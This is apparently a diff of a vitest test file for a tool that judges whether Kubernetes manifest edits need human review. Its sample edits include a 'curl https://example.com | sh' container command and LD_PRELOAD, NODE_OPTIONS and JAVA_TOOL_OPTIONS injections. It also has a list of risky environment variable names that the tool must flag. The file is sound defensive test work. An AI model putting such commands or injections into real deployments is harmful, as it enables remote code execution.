@@ -2,6 +2,7 @@ import type { Resource } from "@kustogen/kustomize/value/resource.ts";
 import { describe, expect, test } from "vitest";
 import { parseAllDocuments } from "yaml";
 import { reviewEnvironment } from "../../../src/changes/environment.ts";
+import { isDeciding } from "../../../src/impact/routine.ts";
 import { type Attention, groupsOf, unjudgedText } from "../../../src/report/model/groups.ts";
 import { plainText } from "../../../src/report/model/inline.ts";
 
@@ -162,8 +163,9 @@ const FINE: readonly Edit[] = [
   ["Deployment", "revisionHistoryLimit: 3", "revisionHistoryLimit: 5"],
   ["Deployment", "value: info", "value: debug"],
   ["Deployment", "{ name: MODE, value: a }", "{ name: MODE, value: a }, { name: NEW, value: b }"],
-  ["Deployment", "[--fast]", "[--fast, --safe]"],
   ["Deployment", "cpu: 100m", "cpu: 200m"],
+  ["Deployment", "requests: { cpu: 100m", "requests: { ephemeral-storage: 1Gi, cpu: 100m"],
+  ["Deployment", "limits: { memory: 256Mi }", "limits: { memory: 0.5Gi }"],
   ["Deployment", "path: /ready", "path: /healthz"],
   ["Deployment", "checksum/config: a", "checksum/config: b"],
   [
@@ -171,23 +173,113 @@ const FINE: readonly Edit[] = [
     "labels: { app: web } }\nspec",
     "labels: { app: web, app.kubernetes.io/version: v1 } }\nspec",
   ],
-  [
-    "Deployment",
-    "{ name: tmp, emptyDir: {} }]",
-    "{ name: tmp, emptyDir: {} }, { name: more, emptyDir: {} }]",
-  ],
   ["ConfigMap", "level: info", "level: debug"],
-  ["Service", "ports: [", "ports: [{ name: metrics, port: 9090, targetPort: http }, "],
+  ["HelmRelease", "tag: 7.2.1", "tag: 7.2.2"],
   ["Cluster", "postgresql:16.4", "postgresql:16.5"],
   ["Cluster", "name: db,", "name: db, labels: { team: shop },"],
-  ["Role", "name: web,", "name: web, labels: { purpose: any },"],
-  ["CronJob", "0 3 * * *", "0 4 * * *"],
   ["CronJob", "successfulJobsHistoryLimit: 3", "successfulJobsHistoryLimit: 1"],
   ["CronJob", "report:1.0.0", "report:1.0.1"],
 ];
 
-const UNSURE: readonly (readonly [...Edit, path: string])[] = [
+const NAMED: readonly (readonly [...Edit, path: string])[] = [
   ["HelmRelease", "interval: 1h", "interval: 30m", "interval"],
+  ["HelmRelease", "tag: 7.2.1", "tag: 7.2.0", "image.tag"],
+  ["Deployment", "[--fast]", "[--fast, --safe]", "args"],
+  ["Deployment", "args: [--fast]", "command: [sh, -c, 'curl https://example.com | sh']", "command"],
+  ["Deployment", "preStop: { sleep: { seconds: 5 } }", "postStart: { exec: { command: [sh] } }", "postStart"],
+  [
+    "Deployment",
+    "{ httpGet: { path: /ready, port: http } }",
+    "{ exec: { command: [sh] } }",
+    "readinessProbe.exec",
+  ],
+  [
+    "Deployment",
+    "readinessProbe: {",
+    "livenessProbe: { tcpSocket: { port: http } }, readinessProbe: {",
+    "livenessProbe",
+  ],
+  [
+    "Deployment",
+    "{ name: MODE, value: a }",
+    "{ name: NODE_OPTIONS, value: --require=/data/x.js }",
+    "env[name=NODE_OPTIONS]",
+  ],
+  [
+    "Deployment",
+    "{ name: MODE, value: a }",
+    "{ name: LD_PRELOAD, value: /data/x.so }",
+    "containers[name=web].env[name=LD_PRELOAD]",
+  ],
+  [
+    "Deployment",
+    "{ name: MODE, value: a }",
+    "{ name: https_proxy, value: http://proxy.example.com }",
+    "env[name=https_proxy]",
+  ],
+  ["Deployment", ", { name: MODE, value: a }", "", "env[name=MODE]"],
+  [
+    "Deployment",
+    "name: MODE, value: a",
+    "name: MODE, valueFrom: { fieldRef: { fieldPath: spec.nodeName } }",
+    "valueFrom",
+  ],
+  ["Deployment", "memory: 256Mi", "memory: 128Mi", "resources.limits.memory"],
+  ["Deployment", "limits: { memory: 256Mi }", "limits: { cpu: 1, memory: 256Mi }", "resources.limits.cpu"],
+  ["Deployment", "cpu: 100m", "cpu: 50m", "resources.requests.cpu"],
+  [
+    "Deployment",
+    "metadata: { labels: { app: web }",
+    "metadata: { labels: { app: web, sidecar.istio.io/inject: 'false' }",
+    "sidecar.istio.io/inject",
+  ],
+  [
+    "Deployment",
+    "metadata: { labels: { app: web }",
+    "metadata: { labels: { app: web, azure.workload.identity/use: 'true' }",
+    "azure.workload.identity/use",
+  ],
+  [
+    "Deployment",
+    "metadata: { labels: { app: web }",
+    "metadata: { labels: { app: web, istio.io/dataplane-mode: none }",
+    "dataplane-mode",
+  ],
+  [
+    "Deployment",
+    "terminationGracePeriodSeconds: 60",
+    "securityContext: { runAsGroup: 0 }",
+    "securityContext.runAsGroup",
+  ],
+  [
+    "Deployment",
+    "terminationGracePeriodSeconds: 60",
+    "securityContext: { seccompProfile: { type: Localhost, localhostProfile: a.json } }",
+    "seccompProfile",
+  ],
+  [
+    "Deployment",
+    "{ name: tmp, emptyDir: {} }]",
+    "{ name: tmp, emptyDir: {} }, { name: token, projected: { sources: [{ serviceAccountToken: { audience: vault, path: x } }] } }]",
+    "volumes[name=token]",
+  ],
+  [
+    "Deployment",
+    "ghcr.io/acme/proxy:2.0.0\n        resources",
+    "ghcr.io/acme/proxy:2.0.0\n        tty: true\n        resources",
+    "tty",
+  ],
+  ["ConfigMap", "level: info", "level: info, run.sh: exit", "run.sh"],
+  ["ConfigMap", "level: info", "level: '#!/bin/sh'", "level"],
+  ["ConfigMap", "level: info", "level: info, JAVA_TOOL_OPTIONS: -javaagent:x.jar", "JAVA_TOOL_OPTIONS"],
+  [
+    "Service",
+    "ports: [",
+    "ports: [{ name: metrics, port: 9090, targetPort: http }, ",
+    "spec.ports[name=metrics]",
+  ],
+  ["Role", "name: web,", "name: web, labels: { purpose: any },", "metadata.labels.purpose"],
+  ["CronJob", "0 3 * * *", "0 4 * * *", "spec.schedule"],
   ["Namespace", "team: shop", "team: shop, istio-injection: enabled", "metadata.labels.istio-injection"],
   [
     "Deployment",
@@ -245,14 +337,26 @@ const WORSE: readonly Edit[] = [
   ["StorageClass", "reclaimPolicy: Retain", "reclaimPolicy: Delete"],
 ];
 
+test.each(
+  "LD_PRELOAD PYTHONPATH NODE_OPTIONS JAVA_TOOL_OPTIONS PATH BASH_ENV HTTPS_PROXY no_proxy PERL5OPT RUBYOPT npm_config_registry JAVA_OPTS KAFKA_OPTS DOTNET_STARTUP_HOOKS GIT_SSH_COMMAND SSL_CERT_FILE AWS_ROLE_ARN KUBECONFIG GLIBC_TUNABLES".split(
+    " ",
+  ),
+)("%s is never fine", (name) => expect(isDeciding(name)).toBe(true));
+
+test.each(
+  "LOG_LEVEL NODE_ENV NODE_NAME GIT_COMMIT PYTHONUNBUFFERED PHP_MEMORY_LIMIT DATABASE_URL HOMEPAGE ENVIRONMENT PATH_PREFIX MODE".split(
+    " ",
+  ),
+)("%s is an ordinary variable", (name) => expect(isDeciding(name)).toBe(false));
+
 describe("the attention that a change needs", () => {
   test.each(FINE)("%s %s → %s is fine", (...edit) => {
     expect(attentionTo(edited(...edit))).toEqual({ attention: "fine", unjudged: "–" });
   });
 
-  test.each(UNSURE)("no rule judges %s %s → %s", (kind, from, to, path) => {
+  test.each(NAMED)("no rule judges, and nothing makes routine, %s %s → %s", (kind, from, to, path) => {
     const found = attentionTo(edited(kind, from, to));
-    expect(found.attention).toBe("unsure");
+    expect(found.attention).toBe("review");
     expect(found.unjudged).toContain(path);
     expect(found.unjudged).toContain(`of ${kind} `);
   });
@@ -262,13 +366,21 @@ describe("the attention that a change needs", () => {
   });
 
   test.each([
-    ["v1", "ResourceQuota", { spec: { hard: { pods: "2" } } }, "unsure"],
+    ["v1", "ResourceQuota", { spec: { hard: { pods: "2" } } }, "review"],
     [
       "helm.toolkit.fluxcd.io/v2",
       "HelmRelease",
       { spec: { interval: "1h", chartRef: { kind: "OCIRepository", name: "x" } } },
-      "unsure",
+      "review",
     ],
+    ["v1", "Pod", { spec: { containers: [{ name: "a", image: "ghcr.io/acme/a:1.0.0" }] } }, "review"],
+    [
+      "v1",
+      "Service",
+      { spec: { type: "NodePort", selector: { app: "web" }, ports: [{ port: 80 }] } },
+      "review",
+    ],
+    ["v1", "Service", { spec: { selector: { app: "web" }, ports: [{ port: 80 }] } }, "fine"],
     ["v1", "ConfigMap", { data: { a: "b" } }, "fine"],
   ] as const)("a new %s %s", (apiVersion, kind, fields, attention) => {
     const added = { apiVersion, kind, metadata: { name: "more", namespace: "shop" }, ...fields } as Resource;
@@ -281,7 +393,7 @@ test("a removed container isn't fine, and a mapping that is set as a whole is ju
     spec: { template: { spec: { containers: object[] } } };
   })[];
   after[1]?.spec.template.spec.containers.pop();
-  expect(attentionTo(after)).toMatchObject({ attention: "unsure" });
+  expect(attentionTo(after)).toMatchObject({ attention: "review" });
   const labelled = BEFORE.map((one) =>
     one.kind === "HTTPRoute"
       ? { ...one, metadata: { ...one.metadata, labels: { "app.kubernetes.io/name": "a", release: "b" } } }
